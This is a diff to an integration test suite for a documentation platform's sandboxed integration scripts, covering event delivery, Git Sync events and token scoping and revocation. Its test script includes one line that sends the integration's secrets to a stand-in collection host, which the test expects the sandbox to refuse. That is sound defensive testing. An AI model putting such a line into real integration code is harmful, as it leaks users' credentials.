@@ -12,6 +12,8 @@ import { buildOrganization, type Organization } from '../helpers/factories.ts';
 import { jobHandlers } from '../../src/jobs/handlers.ts';
 import { runDueJobs } from '../../src/jobs/queue.ts';
 import { findWorkerd } from '../../src/sandbox/sandbox.ts';
+import { freePort } from '../helpers/process.ts';
+import { startGitServer } from '../helpers/gitServer.ts';
 
 /** Why the runtime cannot run on this machine, if it cannot: those tests then skip, saying so. */
 function runtimeMissing(): string | undefined {
@@ -44,7 +46,10 @@ beforeAll(async () => {
   });
   await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
   receiverHost = `127.0.0.1:${(receiver.address() as AddressInfo).port}`;
-  testApp = await startTestApp({ QUIRE_ALLOW_PRIVATE_URLS: 'true', QUIRE_INTEGRATION_HOSTS: receiverHost, QUIRE_INTEGRATION_TIMEOUT: '2' });
+  // The scripts call Quire back at its public URL: the one it listens on.
+  const port = await freePort();
+  testApp = await startTestApp({ QUIRE_PUBLIC_URL: `http://127.0.0.1:${port}`, QUIRE_ALLOW_PRIVATE_URLS: 'true', QUIRE_INTEGRATION_HOSTS: receiverHost, QUIRE_INTEGRATION_TIMEOUT: '2' });
+  await testApp.app.listen({ port, host: '127.0.0.1' });
   org = await buildOrganization(testApp, 'Runtime');
 });
 
@@ -59,16 +64,24 @@ const reporter = (host: string) => `export default {
     const form = await request.formData();
     const event = JSON.parse(form.get('event'));
     const environment = JSON.parse(form.get('environment'));
+    if (event.type !== 'space_content_updated') {
+      await fetch('http://${host}/received', { method: 'POST', body: JSON.stringify({ path: new URL(request.url).pathname, event, environment }) });
+      return new Response('OK');
+    }
     const refused = await fetch('https://example.com/collect', { method: 'POST', body: JSON.stringify(environment.secrets) });
+    const auth = { authorization: 'Bearer ' + environment.apiTokens.installation };
+    const space = await fetch(environment.apiEndpoint + '/v1/spaces/' + event.spaceId, { headers: auth });
+    const members = await fetch(environment.apiEndpoint + '/v1/orgs/' + environment.installation.target.organization + '/members', { headers: auth });
+    const callback = { space: space.status, title: (await space.json()).title, members: members.status };
     ctx.waitUntil(fetch('http://${host}/later', { method: 'POST', body: event.eventId }));
-    await fetch('http://${host}/received', { method: 'POST', body: JSON.stringify({ path: new URL(request.url).pathname, event, environment, refused: refused.status }) });
+    await fetch('http://${host}/received', { method: 'POST', body: JSON.stringify({ path: new URL(request.url).pathname, event, environment, refused: refused.status, callback }) });
     return new Response('OK');
   },
 };
 `;
 const endless = 'export default { async fetch() { for (;;) {} } };\n';
 
-const call = (method: 'GET' | 'POST' | 'DELETE', url: string, body?: unknown) => request(testApp.app, method, url, { token: org.admin.token, body });
+const call = (method: 'GET' | 'POST' | 'PATCH' | 'DELETE', url: string, body?: unknown) => request(testApp.app, method, url, { token: org.admin.token, body });
 
 async function publish(script: string) {
   const published = await call('POST', '/v1/integrations/notifier', { title: 'Notifier', description: 'Tells a chat room', scopes: ['space:content:read'], organization: org.organizationId, visibility: 'private', secrets: { WEBHOOK_KEY: 'k-123' }, script });
@@ -92,12 +105,17 @@ async function waitFor<T>(what: string, probe: () => Promise<T | undefined> | T 
   throw new Error(`timed out waiting for ${what}`);
 }
 
+/** What the script reported of the events of a type, in the order it received them. */
+const reportsOf = (type: string) => received.filter((entry) => entry.path === '/received').map((entry) => JSON.parse(entry.body)).filter((report) => report.event.type === type);
+const reportOf = (type: string) => waitFor(`the script to report ${type}`, () => reportsOf(type)[0]);
+
 const deliveryFor = (installationId: string) =>
   testApp.database.db.selectFrom('event_deliveries').selectAll().where('subscriber', '=', `integration:${installationId}`).orderBy('updated_at', 'desc').executeTakeFirst();
 
 describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
   let spaceId: string;
   let installationId: string;
+  let installationToken: string;
 
   it("delivers space_content_updated to the script of an integration installed on the space, with GitBook's event and environment; its request to a host not allowed is refused", async () => {
     await publish(reporter(receiverHost));
@@ -105,13 +123,17 @@ describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
     installationId = (await call('POST', '/v1/integrations/notifier/installations', { organization: org.organizationId })).body.id;
     expect((await call('POST', `/v1/integrations/notifier/installations/${installationId}/spaces`, { space: spaceId })).status).toBeLessThan(300);
 
+    // Installing tells the script, on the organization and on the space.
+    expect((await reportOf('installation_setup')).event).toEqual({ eventId: expect.any(String), type: 'installation_setup', installationId, status: 'active' });
+    expect((await reportOf('space_installation_setup')).event).toEqual({ eventId: expect.any(String), type: 'space_installation_setup', installationId, spaceId, status: 'active' });
+
     const revision = await mergeNewPage(spaceId, 'Launch notes');
-    const report = await waitFor('the script to report', () => received.find((entry) => entry.path === '/received'));
-    const { path, event, environment, refused } = JSON.parse(report.body);
+    const { path, event, environment, refused, callback } = await reportOf('space_content_updated');
     expect(path).toBe('/v1');
     expect(event).toMatchObject({ type: 'space_content_updated', spaceId, revisionId: revision, installationId, eventId: expect.any(String), updatedBy: [{ object: 'user', id: org.admin.userId }] });
     expect(environment).toMatchObject({
-      apiEndpoint: 'http://quire.test',
+      apiEndpoint: testApp.app.ctx.config.publicUrl,
+      apiTokens: { installation: expect.stringMatching(/^quire_/), integration: expect.stringMatching(/^quire_/) },
       integration: { object: 'integration', name: 'notifier', version: 1, owner: { id: org.organizationId } },
       installation: { id: installationId, target: { organization: org.organizationId } },
       spaceInstallation: { integration: 'notifier', installation: installationId, space: spaceId },
@@ -119,6 +141,9 @@ describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
       signingSecrets: { integration: expect.stringMatching(/^[0-9a-f]{64}$/), installation: expect.stringMatching(/^[0-9a-f]{64}$/) },
     });
     expect(refused).toBe(403);
+    // Its token reads the space it is installed on, and nothing of the organization besides.
+    expect(callback).toEqual({ space: 200, title: 'Handbook', members: 404 });
+    installationToken = environment.apiTokens.installation;
     // What the script left to waitUntil ran too.
     await waitFor('the waitUntil request', () => received.find((entry) => entry.path === '/later' && entry.body === event.eventId));
     await eventsDelivered(testApp);
@@ -141,11 +166,34 @@ describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
     testApp.clock.advance(5_000);
     await runDueJobs(testApp.app.ctx, jobHandlers);
     expect(await deliveryFor(installationId)).toMatchObject({ state: 'done', attempts: 2 });
-    expect(JSON.parse(received.find((entry) => entry.path === '/received')!.body).environment.integration.version).toBe(3);
+    expect((await reportOf('space_content_updated')).environment.integration.version).toBe(3);
   }, 30_000);
 
-  it('sends nothing more to an integration uninstalled from the space', async () => {
+  it('tells the script when a Git Sync operation starts and how it ends', async () => {
+    const git = await startGitServer();
+    try {
+      const head = git.commit({ 'README.md': '# Welcome\n\nFrom git.\n' });
+      received.length = 0;
+      expect((await call('POST', `/v1/spaces/${spaceId}/git/import`, { url: git.url, ref: 'refs/heads/main' })).status).toBe(204);
+      const started = await reportOf('space_gitsync_started');
+      const completed = await reportOf('space_gitsync_completed');
+      expect(started.event).toMatchObject({ spaceId, installationId, revisionId: expect.any(String), commitId: expect.any(String) });
+      expect(completed.event).toMatchObject({ spaceId, installationId, state: 'success', commitId: head, revisionId: (await call('GET', `/v1/spaces/${spaceId}`)).body.revision });
+    } finally {
+      await git.close();
+    }
+  }, 30_000);
+
+  it("tells the script of visibility changes and of its uninstallation, with what it was; sends nothing more once uninstalled from the space, whose token then reads it no more, and is revoked with the installation", async () => {
+    received.length = 0;
+    expect((await call('PATCH', `/v1/spaces/${spaceId}`, { visibility: 'public' })).status).toBe(200);
+    expect((await reportOf('space_visibility_updated')).event).toMatchObject({ spaceId, installationId, visibility: 'public', previousVisibility: 'private' });
+    expect((await call('PATCH', `/v1/spaces/${spaceId}`, { visibility: 'private' })).status).toBe(200);
+    await waitFor('the second visibility event', () => reportsOf('space_visibility_updated')[1]);
     expect((await call('DELETE', `/v1/integrations/notifier/installations/${installationId}/spaces/${spaceId}`)).status).toBe(204);
+    const removed = await reportOf('space_installation_deleted');
+    expect(removed.event).toMatchObject({ spaceId, installationId, previous: { configuration: {} } });
+    expect(removed.environment).toMatchObject({ apiTokens: {}, spaceInstallation: { installation: installationId, space: spaceId }, installation: { id: installationId } });
     received.length = 0;
     await mergeNewPage(spaceId, 'After');
     await eventsDelivered(testApp);
@@ -153,5 +201,11 @@ describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
     const deliveries = await testApp.database.db.selectFrom('event_deliveries').select('subscriber').where('event_id', '=', lastEvent.id).execute();
     expect(deliveries.map((row) => row.subscriber)).not.toContain(`integration:${installationId}`);
     expect(received).toEqual([]);
+    // Its token no longer reads the space, and once the integration is uninstalled it is refused altogether.
+    expect((await request(testApp.app, 'GET', `/v1/spaces/${spaceId}`, { token: installationToken })).status).toBe(404);
+    expect((await request(testApp.app, 'GET', '/v1/user', { token: installationToken })).status).toBe(200);
+    expect((await call('DELETE', `/v1/integrations/notifier/installations/${installationId}`)).status).toBe(204);
+    expect((await request(testApp.app, 'GET', '/v1/user', { token: installationToken })).status).toBe(401);
+    expect((await reportOf('installation_deleted')).event).toMatchObject({ installationId, previous: { configuration: {} } });
   }, 30_000);
 });
